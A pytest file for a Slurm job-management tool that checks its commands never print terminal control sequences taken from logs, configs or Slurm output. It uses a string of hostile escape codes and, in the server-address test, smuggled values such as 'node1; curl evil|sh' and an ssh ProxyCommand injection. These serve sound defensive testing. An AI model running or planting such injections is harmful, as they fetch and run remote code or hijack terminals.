"""What files, logs, Slurm and other users say may hold anything; no command prints what a terminal would obey."""

import json
import os
import types
from pathlib import Path
from shlex import quote

import pandas as pd
import pytest
from rich.console import Console
from slurm_stand_in import parted_as_asked

from hpcmm.config.compose import compose_run
from hpcmm.evaluate import __main__ as evaluate
from hpcmm.jobs import __main__ as jobs
from hpcmm.jobs import follow
from hpcmm.launch import __main__ as launch
from hpcmm.runs.failures import RankError, RankExit, error_file, exit_file, write
from hpcmm.runs.run_dir import RunDir
from hpcmm.serve import __main__ as serve

HOSTILE = "\rover\x1b]52;c;ZWNobw==\x07\x1b[31mred\x1b[2J\x9b31m\u202eRTL\u2066\x00\x07\x08\x0b\x0c\x85\u2028 \udc9b"
FORBIDDEN = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) not in "\n\t"] + list(
    "\u200e\u200f\u202a\u202d\u202e\u2028\u2029\u2066\u2069"
)


def is_clean(text):
    return [f"U+{ord(char):04X}" for char in FORBIDDEN if char in text]


@pytest.fixture
def slurm(tmp_path, monkeypatch):
    """Stand-ins for Slurm's commands, whose answers a test writes."""
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", f"{folder}:{os.environ['PATH']}")
    monkeypatch.setenv("SLURM_CONF", str(tmp_path / "slurm.conf"))
    (tmp_path / "slurm.conf").touch()
    monkeypatch.chdir(tmp_path)

    def answer(name, text="", complaint="", status=0):
        for kind, said in (("out", text), ("err", complaint)):
            (folder / f"{name}.{kind}").write_bytes(said.encode(errors="surrogateescape"))
        here = quote(str(folder / name))
        script = f"#!/bin/sh\ncat {here}.out\ncat {here}.err >&2\nexit {status}\n"
        (folder / name).write_text(parted_as_asked(script))
        (folder / name).chmod(0o755)

    for name in ("squeue", "sacct", "sinfo", "scancel", "sbatch", "srun", "scontrol"):
        answer(name)
    return answer


@pytest.fixture
def run(tmp_path, slurm):
    """A run in whose directory every text is hostile; so is what Slurm says of its job 7."""
    made = RunDir(tmp_path / "runs" / "demo-1")
    made.create()
    cluster = {"executor": "slurm", "nodes": 1, "ranks_per_node": 2, "exclude": HOSTILE.replace("\udc9b", "")}
    made.config.write_text(json.dumps({"name": HOSTILE, "cluster": cluster, "task": {"_target_": None}}))
    made.submission_script.touch()
    made.submission.write_text('{"job_id": "7"}')
    made.settled.write_text(json.dumps({"steps_done": 3, "reason": HOSTILE.replace("\udc9b", "")}))
    for log in (made.batch_log, made.rank_log(0), made.analysis_log):
        log.write_bytes(f"{HOSTILE}\nerror: {HOSTILE}\n{HOSTILE}".encode(errors="surrogateescape"))
    error = RankError(0, HOSTILE, 5, "ValueError", f"{HOSTILE}\n{HOSTILE}", [f"  {HOSTILE}", f"ValueError: {HOSTILE}"])
    write(error, error_file(made.failures / "7.0", 0))
    write(RankExit(1, HOSTILE, 4, 3, None), exit_file(made.failures / "7.0", 1))
    slurm("squeue", row("FAILED", made.submission_script))
    slurm("sinfo", f"n1\x1fdown\x1f{HOSTILE}\n")
    return made


def row(state, script):
    said = "".join(HOSTILE.splitlines())
    return "\x1f".join(["7", "7", said, said, state, said, "x", said, "x", "0:10", said, "1", str(script)]) + "\n"


@pytest.mark.parametrize(
    "words",
    [
        ["list"],
        ["list", "--json"],
        ["status", "demo-1"],
        ["status", "7", "--json"],
        ["status", HOSTILE],
        ["logs", "demo-1"],
        ["logs", "demo-1", "-f"],
        ["why", "7"],
        ["why", "demo-1", "--json"],
        ["why", HOSTILE],
        ["cancel", "demo-1"],
    ],
)
@pytest.mark.parametrize("state", ["FAILED", "PENDING"])
def test_jobs_prints_nothing_that_a_terminal_obeys(run, slurm, capsys, words, state):
    slurm("squeue", row("FAILED" if "-f" in words else state, run.submission_script))
    slurm("sacct", complaint=f"sacct: error: {HOSTILE}", status=1)
    jobs.main([*words, "--runs-root", str(run.root.parent)])
    said = capsys.readouterr()
    assert said.out + said.err
    assert is_clean(said.out + said.err) == []


def test_a_command_of_slurm_s_that_complains_is_quoted_clean(run, slurm, capsys):
    slurm("squeue", complaint=f"squeue: error: {HOSTILE}", status=1)
    jobs.main(["status", "demo-1", "--runs-root", str(run.root.parent)])
    said = capsys.readouterr().err
    assert "Slurm" in said or "squeue" in said
    assert is_clean(said) == []


@pytest.mark.parametrize("status", [0, 1])
def test_a_launch_prints_nothing_that_a_terminal_obeys(run, slurm, capsys, monkeypatch, status):
    Path("train.py").touch()
    (Path("runs") / "latest").write_text("not a link")
    monkeypatch.setenv("SBATCH_\x1b[31m", "x")
    slurm("sbatch", f"{HOSTILE}\nSubmitted batch job 7\n" if status == 0 else "", f"error: {HOSTILE}", status)
    assert launch.main(["cluster=slurm", "task=script", "task.path=train.py"]) == status
    said = capsys.readouterr()
    assert is_clean(said.out + said.err) == []


@pytest.mark.parametrize("failed", [True, False])
def test_following_prints_nothing_that_a_terminal_obeys(run, slurm, capsys, monkeypatch, failed):
    monkeypatch.setattr(follow, "_RECORD_WAIT_S", 0)
    config = compose_run(["cluster=slurm", "task=script", "task.path=train.py", "analyze=after", "profile=nsys"])
    slurm("squeue", row("FAILED" if failed else "COMPLETED", run.submission_script))
    slurm("sacct", complaint=f"sacct: error: {HOSTILE}", status=1)
    submission = types.SimpleNamespace(run=run, job_id="7", job=None, analysis_job_id="7")
    assert follow.follow(config, submission) == int(failed)
    said = capsys.readouterr()
    assert "red" in said.err
    assert "red" in said.out  # of the analysis
    assert is_clean(said.out + said.err) == []


def test_resubmitted_points_are_told_clean(run, capsys, monkeypatch):
    points = [types.SimpleNamespace(index=0, overrides=(HOSTILE,))]
    again = types.SimpleNamespace(job_ids=("8",), points=points, code=HOSTILE)
    monkeypatch.setattr("hpcmm.launch.submit.resubmit", lambda *_: again)
    assert launch.main(["resubmit", "runs/demo-1"]) == 0
    assert is_clean(capsys.readouterr().out) == []


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("node", "node1; curl evil|sh #\x1b[31m"),
        ("node", "-oProxyCommand=evil"),
        ("node", ["n1"]),
        ("port", 0),
        ("port", 70_000),
        ("token", "x&y=\x1b[31m"),
    ],
)
def test_an_address_is_printed_only_if_a_shell_may_have_it(run, capsys, key, value):
    address = {"node": "n1", "port": 80, "token": "x"}
    run.address.write_text(json.dumps(address))
    words = ["demo-1", "--address", "--runs-root", str(run.root.parent)]
    assert serve.main(words) == 0
    assert "ssh -N -L 80:127.0.0.1:80" in capsys.readouterr().out
    run.address.write_text(json.dumps(address | {key: value}))
    assert serve.main(words) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert "does not tell where a server listens" in said.err
    assert is_clean(said.err) == []


def test_an_evaluation_names_runs_clean(capsys):
    console = Console()
    text = HOSTILE.replace("\udc9b", "")
    console.print(evaluate._view(pd.DataFrame({text: [text]}), "scores"))
    console.print(evaluate._plain(f"[red]{HOSTILE}"))
    said = capsys.readouterr().out
    assert "[red]" in said
    assert is_clean(said) == []
